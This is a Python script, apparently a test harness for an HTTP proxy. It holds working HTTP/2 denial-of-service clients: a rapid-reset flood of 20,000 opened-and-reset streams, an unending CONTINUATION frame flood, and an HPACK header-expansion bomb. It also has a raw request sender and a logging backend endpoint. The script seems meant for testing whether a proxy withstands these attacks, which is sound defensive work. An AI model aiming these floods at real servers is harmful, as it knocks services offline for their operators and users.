"""Clients that abuse a proxy, and the endpoint behind it.

usage: ingress-abuse.py endpoint ADDRESS PORT LOG   answers with the target; a line of LOG for each
                                                    request
       ingress-abuse.py send ADDRESS PORT           sends standard input; prints the statuses of the
                                                    answers, and `closed` or `open`
       ingress-abuse.py rapid-reset ADDRESS         HTTP/2 streams that are reset at once
       ingress-abuse.py continuation ADDRESS        a head without end in CONTINUATION frames
       ingress-abuse.py headers ADDRESS             a small head that HPACK expands to megabytes
The clients of HTTP/2 print the error code of GOAWAY or RST_STREAM, or the status of the answer.
"""

import re
import select
import socket
import struct
import sys
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HOST = b"abuse.example"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 1, 3, 4, 7, 9
END_STREAM, END_HEADERS = 1, 4
# :method GET, :scheme http, :path /, and :authority (RFC 7541, appendix A).
REQUEST = b"\x82\x86\x84\x41" + bytes([len(HOST)]) + HOST
SECONDS = 10


class Endpoint(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        with open(sys.argv[4], "a", encoding="utf-8") as log:
            log.write(f"{self.command} {self.path} {self.headers.get('X-Forwarded-For')}\n")
        body = self.path.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_):
        pass


class Endpoints(ThreadingHTTPServer):
    def handle_error(self, *_):
        """The proxy may close a connection within an answer."""


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        "!I", stream) + payload


def received(connection, seconds):
    """All bytes until the end of the connection or of the time, and whether it has ended."""
    data, end = b"", time.monotonic() + seconds
    connection.settimeout(None)
    while (left := end - time.monotonic()) > 0:
        if not select.select([connection], [], [], left)[0]:
            break
        try:
            part = connection.recv(65536)
        except ConnectionError:
            return data, True
        if not part:
            return data, True
        data += part
    return data, False


def send(address, port):
    connection = socket.create_connection((address, port), SECONDS)
    try:
        connection.sendall(sys.stdin.buffer.read())
    except ConnectionError:
        pass
    data, ended = received(connection, 1)
    statuses = re.findall(rb"HTTP/1\.1 (\d+)", data)
    print(b" ".join(statuses).decode(), "closed" if ended else "open")


def outcome(data):
    """The error of the connection or of a stream, else the status of an answer."""
    found, at = "none", 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at : at + 3], "big")
        kind, payload = data[at + 3], data[at + 9 : at + 9 + length]
        if kind == GOAWAY:
            return f"GOAWAY {int.from_bytes(payload[4:8], 'big')}"
        if kind == RST_STREAM:
            found = f"RST_STREAM {int.from_bytes(payload, 'big')}"
        if kind == HEADERS and found == "none":
            # Statuses of the static table are one byte, others begin with a literal.
            text = re.search(rb"[\x08\x48](?:\x03(\d{3})|\x82(..))", payload)
            found = "HEADERS" if text is None or text[1] is None else text[1].decode()
        at += 9 + length
    return found


def http2(address, frames):
    """Sends frames until the proxy ends the connection; the bytes sent and the outcome."""
    connection = socket.create_connection((address, 80), SECONDS)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    sent, data = 0, b""
    try:
        for one in frames:
            connection.sendall(one)
            sent += len(one)
            if select.select([connection], [], [], 0)[0]:
                part = connection.recv(65536)
                data += part
                if not part or outcome(data).startswith("GOAWAY"):
                    break
    except ConnectionError:
        pass
    rest, _ = received(connection, 2)
    return sent, outcome(data + rest)


def rapid_reset(address):
    def frames():
        for number in range(20_000):
            stream = 2 * number + 1
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST) + frame(
                RST_STREAM, 0, stream, struct.pack("!I", 8))
    sent, what = http2(address, frames())
    print(what, "early" if sent < 1_000_000 else "late")


def continuation(address):
    def frames():
        yield frame(HEADERS, END_STREAM, 1, REQUEST)
        # A literal without indexing: name x, value of 4,000 bytes.
        size = 4000 - 127
        field = b"\x00\x01x\x7f" + bytes([0x80 | size & 0x7F, size >> 7]) + b"v" * 4000
        for _ in range(5_000):
            yield frame(CONTINUATION, 0, 1, field)
    sent, what = http2(address, frames())
    print(what, "early" if sent < 2_000_000 else "late")


def headers(address):
    # A field of 3,900 bytes enters the dynamic table (RFC 7541, 6.2.1); index 62 repeats it.
    size = 3900 - 127
    field = b"\x40\x01x\x7f" + bytes([0x80 | size & 0x7F, size >> 7]) + b"v" * 3900
    block = REQUEST + field + b"\xbe" * 2000
    first, rest = block[:16000], block[16000:]
    frames = [frame(HEADERS, END_STREAM | (0 if rest else END_HEADERS), 1, first)]
    if rest:
        frames.append(frame(CONTINUATION, END_HEADERS, 1, rest))
    print(http2(address, frames)[1])


def main():
    command, address = sys.argv[1], sys.argv[2]
    if command == "endpoint":
        server = Endpoints((address, int(sys.argv[3])), Endpoint)
        print("ready", flush=True)
        server.serve_forever()
    elif command == "send":
        send(address, int(sys.argv[3]))
    else:
        {"rapid-reset": rapid_reset, "continuation": continuation, "headers": headers}[command](
            address)


main()
